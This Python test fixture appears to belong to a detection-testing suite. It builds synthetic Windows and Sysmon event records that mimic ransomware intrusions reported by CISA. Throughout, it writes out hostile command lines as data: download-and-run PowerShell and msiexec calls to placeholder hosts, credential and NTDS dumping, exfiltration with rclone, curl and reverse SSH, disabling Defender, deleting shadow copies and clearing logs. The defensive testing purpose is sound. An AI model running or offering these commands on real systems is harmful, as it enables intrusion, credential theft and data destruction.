"""A fifth set of attacks, as reports of intrusions into schools and towns tell them: pages that have somebody paste a
command, servers that are broken into, services that let in from outside, groups of virtual hosts, backup servers.

Source: advisories of CISA on Akira, Play, Medusa and Interlock; Microsoft's pages on the records.
"""

from __future__ import annotations

from firstbell.drill.intrusion.eventlogs import Event
from tests.investigate.hunts.attacks import DEFENDER, SYSMON, audited, event
from tests.investigate.hunts.published import (
    PSH,
    SID,
    SYS32,
    USER,
    block,
    directory,
    installed,
    published,
    refused,
    started,
    valued,
    wrote,
)
from tests.investigate.hunts.published_third import asked


def run(command: str, parent: str = rf"{SYS32}\cmd.exe") -> Event:
    """Sysmon's record of a program of Windows, named with or without its ending."""
    name = command.split()[0]
    return started(rf"{SYS32}\{name if name.endswith('.exe') else f'{name}.exe'}", command, parent)


FIFTH = (
    published("clickfix", "run.download", started(PSH,'"powershell.exe" -w h -c "iex(irm hxxp.example/v)"',r"C:\Windows\explorer.exe")),
    published("runmru", "entry.opened", valued(r"C:\Windows\explorer.exe",r"HKU\S-1-5-21-1-2-3-1000\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\a",r'mshta https://203.0.113.9/captcha # I am not a robot\1')),
    published("onenote", "entry.opened", started(rf"{SYS32}\cmd.exe",r'cmd /c ""C:\Users\jlopez\AppData\Local\Temp\OneNote\16.0\Exported\{A}\NT\0\Open.cmd""',r"C:\Program Files\Microsoft Office\root\Office16\ONENOTE.EXE")),
    published("macro-child", "entry.opened", started(rf"{SYS32}\rundll32.exe",r"rundll32 C:\Users\jlopez\AppData\Roaming\x.dll,Start",r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE")),
    published("quickassist", "run.download", started(rf"{SYS32}\curl.exe","curl -o s.zip https://203.0.113.10/s.zip")),
    published("confluence", "entry.webshell", started(rf"{SYS32}\cmd.exe","cmd /c whoami",r"C:\Program Files\Atlassian\Confluence\bin\tomcat9.exe")),
    published("screenconnect-cve", "entry.webshell", wrote(r"C:\Program Files (x86)\ScreenConnect\ScreenConnect.Service.exe",r"C:\Program Files (x86)\ScreenConnect\App_Extensions\abc\shell.ashx")),
    published("veeam-exploit", "entry.webshell", started(rf"{SYS32}\cmd.exe","cmd.exe /c whoami > C:\\ProgramData\\a.txt",r"C:\Program Files\Veeam\Backup and Replication\Backup\Veeam.Backup.MountService.exe")),
    published("sqlservr-xp", "entry.webshell", started(rf"{SYS32}\cmd.exe",'"C:\\Windows\\system32\\cmd.exe" /c powershell -c "iwr http://203.0.113.8/a -o c:\\programdata\\a.exe"',r"C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe")),
    published("vpn-radius", "entry.remote_logon", audited(6272,SubjectUserSid=SID,SubjectUserName="DISTRICT\\jlopez",CallingStationID="203.0.113.77",NASIPv4Address="10.0.0.1",ClientName="vpn")),
    published("rdp-guess-ok", "entry.guessing", *[refused("administrator", "203.0.113.5")] * 12),
    published("lnk-usb", "run.download", started(rf"{SYS32}\msiexec.exe",'msiexec /q /i "http://203.0.113.4:8080/aB/WS17=jlopez"',rf"{SYS32}\cmd.exe")),
    published("atera-service", "entry.remote_tool", installed("AteraAgent", r'"C:\Program Files\ATERA Networks\AteraAgent\AteraAgent.exe"')),
    published("netbird", "entry.remote_tool", installed("netbird",r"C:\Program Files\NetBird\netbird.exe service run")),
    published("tailscale-exec", "entry.remote_tool", started(r"C:\Program Files\Tailscale\tailscale.exe","tailscale up --authkey tskey-auth-k1 --unattended")),
    published("meshagent-temp", "entry.remote_tool", installed("Mesh Agent",r'"C:\Windows\Temp\m\MeshAgent.exe" --meshServiceName="Mesh Agent"')),
    published("devtunnel", "entry.remote_tool", started(r"C:\Users\jlopez\Downloads\code.exe","code.exe tunnel --accept-server-license-terms --name ws17")),
    published("itadm", "account.created", audited(4720,TargetUserName="itadm",TargetDomainName="DISTRICT",TargetSid=SID,SubjectUserSid=SID,SubjectUserName="jlopez")),
    published("esx-admins", "account.raised", audited(4727,TargetUserName="ESX Admins",TargetDomainName="DISTRICT",TargetSid="S-1-5-21-1-2-3-5555",SubjectUserName="jlopez",SubjectUserSid=SID)),
    published("netsh-esx", "account.raised", run("net group \"ESX Admins\" /domain /add")),
    published("nanodump-ssp", "account.dump", run(r"rundll32.exe C:\ProgramData\nano.dll,Run --write C:\ProgramData\d.bin --valid")),
    published("comsvcs-ordinal", "account.dump", started(rf"{SYS32}\rundll32.exe",r"rundll32.exe C:\windows\System32\comsvcs.dll, #24 672 C:\ProgramData\a.log full")),
    published("veeam-creds", "account.passwords", block("Add-Type -AssemblyName System.Security; $k=(Get-ItemProperty 'HKLM:\\SOFTWARE\\Veeam\\Veeam Backup and Replication\\Data').EncryptionSalt; [Security.Cryptography.ProtectedData]::Unprotect($x,$null,'LocalMachine')")),
    published("veeam-sql", "account.passwords", run('sqlcmd -S localhost\\VEEAMSQL2016 -E -Q "select user_name,password from VeeamBackup.dbo.Credentials"')),
    published("ntds-vss-copy", "account.ntds", run(r"cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy4\Windows\NTDS\NTDS.dit C:\ProgramData\n.dit")),
    published("ntds-wbadmin", "account.ntds", run(r"wbadmin start recovery -version:10/01/2023-10:00 -itemtype:file -items:c:\windows\ntds\ntds.dit -recoverytarget:C:\ProgramData -notrestoreacl -quiet")),
    published("reg-save", "account.dump", run(r"reg save HKLM\SAM C:\PerfLogs\s.tmp /y")),
    published("browser-creds", "account.passwords", run(r'esentutl.exe /y /vss "C:\Users\jlopez\AppData\Local\Google\Chrome\User Data\Default\Login Data" /d C:\ProgramData\c.tmp')),
    published("laps-read", "account.passwords", block("Get-ADComputer -Filter * -Properties ms-Mcs-AdmPwd | select name,ms-Mcs-AdmPwd")),
    published("gpp-find", "account.passwords", run(r"findstr /S /I cpassword \\district.example\sysvol\district.example\policies\*.xml")),
    published("dsrm", "account.reset", audited(4794,SubjectUserSid=SID,SubjectUserName="jlopez",Workstation="DC01",Status="0x0")),
    published("shadow-cred", "account.raised", directory("CN=DC01,OU=Domain Controllers,DC=d","computer","msDS-KeyCredentialLink","B:828:00020000")),
    published("rbcd", "account.raised", directory("CN=FS01,DC=d","computer","msDS-AllowedToActOnBehalfOfOtherIdentity","O:BAD:(A;;)")),
    published("pwd-mass", "account.reset", *[audited(4724,TargetUserName=f"t{i}",TargetDomainName="D",TargetSid=SID,SubjectUserSid=SID,SubjectUserName="jlopez") for i in range(25)]),
    published("impacket-wmiexec", "move.wmi", started(rf"{SYS32}\cmd.exe",r"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1700000000.12 2>&1",rf"{SYS32}\wbem\WmiPrvSE.exe")),
    published("netexec-smb", "move.service", installed("tGvXkRqB",r"%COMSPEC% /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat")),
    published("pdq", "entry.remote_tool", installed("PDQDeployRunner-1",r"C:\Windows\AdminArsenal\PDQDeployRunner\service-1\PDQDeployRunner-1.exe")),
    published("softperfect", "look.scan", started(r"C:\Users\jlopez\Downloads\netscan_portable\64-bit\netscan.exe",r'netscan.exe /hide /range:10.0.0.0-10.0.255.255')),
    published("adrecon", "look.scan", block("Invoke-ADRecon -Collect Users,Computers,GPOs -OutputType CSV")),
    published("nltest", "look.scan", run("nltest /domain_trusts /all_trusts")),
    published("netuse-loop", "move.share", run(r'cmd /c for /f %i in (hosts.txt) do copy C:\ProgramData\w.exe \\%i\c$\windows\temp\w.exe')),
    published("psremoting", "move.winrm", block("Invoke-Command -ComputerName (gc .\\hosts.txt) -ScriptBlock { C:\\Windows\\Temp\\w.exe -k } -Credential $c")),
    published("dcom-mmc", "move.wmi", started(rf"{SYS32}\cmd.exe","cmd /c calc",rf"{SYS32}\mmc.exe",ParentCommandLine=r"C:\Windows\system32\mmc.exe -Embedding")),
    published("rdp-enable", "stay.rdp", valued(rf"{SYS32}\reg.exe",r"HKLM\System\CurrentControlSet\Control\Terminal Server\fDenyTSConnections","DWORD (0x00000000)")),
    published("ssh-tunnel", "move.ssh", started(rf"{SYS32}\OpenSSH\ssh.exe","ssh -N -R 203.0.113.5:9090 -o StrictHostKeyChecking=no u@203.0.113.5 -i C:\\ProgramData\\k")),
    published("systembc-run", "stay.run", valued(r"C:\ProgramData\socks.exe",r"HKU\S-1-5-21-1\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\socks",r"powershell.exe -windowstyle hidden -Command \"& 'C:\ProgramData\socks.exe'\"")),
    published("7z-split", "stage.archive", started(r"C:\ProgramData\7zz.exe",r"7zz.exe a -v2g -mx1 -pXyz C:\ProgramData\o\hr.7z \\fs01\HR$")),
    published("winrar-list", "stage.archive", started(r"C:\Program Files\WinRAR\WinRAR.exe",r'"C:\Program Files\WinRAR\WinRAR.exe" a -ep1 -scul -r0 -iext -imon1 -- . "\\fs01\finance"')),
    published("robocopy", "stage.copy", run(r"robocopy \\fs01\finance C:\PerfLogs\f /E /MT:32 /XF *.exe *.dll")),
    published("rclone-renamed", "theft.tool", started(r"C:\ProgramData\svchost.exe",r"svchost.exe copy \\fs01\HR r:bk --max-age 3y --exclude *.{iso,exe} --transfers 12 -q",OriginalFileName="rclone.exe")),
    published("filezilla", "theft.tool", started(r"C:\Program Files\FileZilla FTP Client\filezilla.exe",r'"C:\Program Files\FileZilla FTP Client\filezilla.exe" sftp://u:p@203.0.113.5')),
    published("azcopy", "theft.tool", started(r"C:\ProgramData\azcopy.exe",r'azcopy.exe copy "\\fs01\HR" "https://x1.blob.core.windows.net/c?sv=2022" --recursive')),
    published("bashupload", "theft.script", run("curl.exe -k -T C:\\ProgramData\\hr.7z https://temp.sh/upload")),
    published("restic-out", "theft.tool", started(r"C:\ProgramData\r.exe",r'r.exe -r rest:https://u:p@203.0.113.5:8000/ backup D:\Shares --no-scan',OriginalFileName="restic.exe")),
    published("megasync", "theft.tool", asked(r"C:\Users\jlopez\AppData\Local\MEGAsync\MEGAsync.exe","g.api.mega.co.nz")),
    published("psh-s3", "theft.script", block("Get-ChildItem D:\\Shares -Recurse -Include *.pdf,*.xlsx | % { Write-S3Object -BucketName x -File $_.FullName -EndpointUrl https://s3.wasabisys.com }")),
    published("byovd", "hide.defences", installed("TrueSight",r"\??\C:\Users\jlopez\AppData\Local\Temp\truesight.sys","kernel mode driver")),
    published("byovd2", "hide.defences", event(SYSMON,6,RuleName="-",UtcTime="x",ImageLoaded=r"C:\Windows\Temp\rwdrv.sys",Hashes="x",Signed="true",Signature="x",SignatureStatus="Valid")),
    published("tamper", "hide.defences", run('powershell Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true')),
    published("excl", "hide.defences", event(DEFENDER,5007,OldValue="-",NewValue=r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\ = 0x0")),
    published("safeboot", "hide.recovery", run("bcdedit /set {default} safeboot network")),
    published("clear-all", "hide.cleared", run('cmd /c for /F "tokens=*" %1 in (\'wevtutil.exe el\') DO wevtutil.exe cl "%1"')),
    published("vss", "hide.recovery", started(PSH,'powershell.exe -Command "Get-WmiObject Win32_Shadowcopy | Remove-WmiObject"')),
    published("vss-resize", "hide.recovery", run("vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB")),
    published("veeam-del", "hide.recovery", block("Get-VBRBackup | Remove-VBRBackup -FromDisk -Confirm:$false")),
    published("auditpol", "hide.audit", run("auditpol /set /category:* /success:disable /failure:disable")),
    published("driver-hrsword", "hide.defences", installed("sysdiag", r"\??\C:\ProgramData\sysdiag.sys", "kernel mode driver")),
    published("fw-off", "hide.defences", run("netsh advfirewall set allprofiles state off")),
    published("hist-del", "hide.history", run(r"cmd /c del /f /q %APPDATA%\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt")),
    published("task-hidden", "stay.task", run(r'schtasks /create /sc onstart /ru system /tn "GoogleUpdateCore" /tr "C:\ProgramData\g.exe" /f')),
    published("svc-public", "stay.service", run(r'sc create WinUpd binPath= "C:\Users\Public\w.exe" start= auto')),
    published("wmi-sub", "stay.wmi", event(SYSMON,20,RuleName="-",EventType="WmiConsumerEvent",UtcTime="x",Operation="Created",User=USER,Name='"U"',Type="Command Line",Destination='"C:\\\\ProgramData\\\\w.exe"')),
    published("startup-lnk", "stay.run", wrote(rf"{SYS32}\cmd.exe",r"C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\w.lnk")),
    published("sethc", "stay.rdp", run(r"cmd /c copy /y C:\Windows\System32\cmd.exe C:\Windows\System32\sethc.exe")),
    published("portproxy", "stay.rdp", run("netsh interface portproxy add v4tov4 listenport=8443 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.1.1.5")),
)  # fmt: skip
